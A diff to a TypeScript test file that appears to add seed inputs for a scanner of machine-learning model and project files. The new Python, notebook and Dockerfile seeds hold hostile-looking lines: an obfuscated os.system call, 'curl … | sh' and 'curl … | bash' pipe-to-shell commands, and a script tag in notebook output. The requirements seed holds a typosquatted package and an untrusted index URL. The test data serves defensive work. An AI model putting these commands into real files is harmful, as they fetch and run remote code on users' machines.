@@ -105,6 +105,36 @@ const seeds: readonly (readonly [string, Uint8Array])[] = [
   ['npy', concat('\x93NUMPY\x01\x00', 118, 0, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(117), '\n', attack)],
   ['configuration', utf8(JSON.stringify({ tokenizer_class: 'X', chat_template: template, auto_map: { a: 'b' } }))],
   ['template', utf8(template)],
+  [
+    'python',
+    utf8(
+      '# coding: latin-1\nimport os as o\nclass A:\n  def f(self, x=1):\n    with open(f"a{x!r:>{2}}", "w") as g:\n      getattr(o, "sys" + "tem")("id")\n',
+    ),
+  ],
+  [
+    'torchscript',
+    utf8(
+      'class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    torch.save(x, "/x")\n    return ^Op(1)(x)\n',
+    ),
+  ],
+  [
+    'notebook',
+    utf8(
+      JSON.stringify({
+        cells: [
+          {
+            cell_type: 'code',
+            source: ['import os\n', '!curl http://x | sh\n', 'os.system("id")'],
+            outputs: [{ data: { 'text/html': ['<script>fetch(1)</script>'] } }],
+          },
+        ],
+        metadata: {},
+        nbformat: 4,
+      }),
+    ),
+  ],
+  ['requirements', utf8('torch==1.12.0\nnumppy>=1.0\n--extra-index-url https://x/simple\ngit+https://x/y.git\n')],
+  ['dockerfile', utf8('FROM python:3.11\nRUN curl https://x/y.sh | bash \\\n && pip install torch numpy\n')],
 ];
 
 describe.each(seeds)('%s', (_name, seed) => {
